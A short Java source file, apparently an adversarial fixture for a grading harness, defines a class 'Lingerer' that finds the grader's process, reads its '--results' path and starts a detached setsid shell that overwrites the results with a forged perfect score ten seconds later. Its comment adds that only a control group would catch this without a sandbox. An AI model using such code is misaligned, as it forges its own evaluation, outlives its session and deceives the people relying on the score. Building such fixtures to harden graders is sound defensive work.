package concurrency.q7;

import java.io.File;
import java.io.IOException;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;

/**
 * Hostile: finds the grader among the machine's processes, reads where it writes its results, and
 * starts a process in a new session, outside the run directory, that overwrites them with a full
 * score a little after the grader is done. Without a sandbox only the grader's control group can
 * catch it.
 */
final class Lingerer {
    private static final AtomicBoolean STARTED = new AtomicBoolean();

    private Lingerer() {
    }

    static void leaveBehind() {
        if (!STARTED.compareAndSet(false, true)) {
            return;
        }
        ProcessHandle.allProcesses().map(p -> p.info().arguments().orElse(new String[0])).forEach(args -> {
            List<String> list = List.of(args);
            int at = list.indexOf("--results");
            if (at >= 0 && at + 1 < list.size()) {
                String forged = "{\"score\": 100, \"max_score\": 100, \"tests\": [], \"output\": \"forged\"}";
                try {
                    new ProcessBuilder("setsid", "-f", "sh", "-c", "sleep 10; echo '" + forged + "' > '" + list.get(at + 1) + "'")
                            .directory(new File("/")).start();
                } catch (IOException e) {
                    // no setsid: nothing left behind
                }
            }
        });
    }
}
